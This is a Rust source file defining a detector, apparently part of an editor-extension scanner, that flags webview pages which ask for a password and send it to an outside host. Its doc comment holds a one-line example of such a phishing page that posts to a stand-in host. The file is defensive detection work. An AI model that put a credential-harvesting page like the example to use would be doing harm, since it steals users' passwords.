//! A page within the editor asks for a password and sends it to a stranger.
//!
//! Editors sign people in through the browser and keep what comes of it. A page that draws such a form itself gets the password, and looks
//! like the service whose name it writes above it.
//!
//! **What to do:** do not install it; change the password that was entered.
//!
//! **Limits:** a host that is called like the extension or its publisher is told as low; one that is not constant is not told.
//!
//! **Example:** `webview.html = '<input type="password">…fetch("https://x.invalid/l", …)'`

use super::common::*;
use crate::behaviour::words::Address;

pub(super) const DETECTOR: ExtensionDetector = ExtensionDetector {
    id: "extension/password-page",
    title: "asks for a password in a page and sends it to a stranger",
    severity: High,
    run,
};

fn run(seen: &Seen<'_>, findings: &mut Findings) {
    for spot in &seen.passwords {
        let Some(at) = spot.words.find("http") else { continue };
        let Some(address) = Address::of(&spot.words[at..]).filter(|a| a.is_constant() && !a.is_local())
        else {
            continue;
        };
        let own = [seen.manifest.name.as_str(), seen.manifest.publisher.as_str()];
        let mut parts = own.iter().flat_map(|name| name.split(['-', '_', '.']));
        let is_own = parts.any(|part| part.len() >= 4 && address.belongs_to(&part.to_ascii_lowercase()));
        let grade = if is_own { (Low, Likely) } else { (High, Likely) };
        let message = format!("a page asks for a password, and the code sends to `{}`", shown(&address.host));
        findings.tell(&spot.full, Some(spot.line), grade, message, "");
    }
}
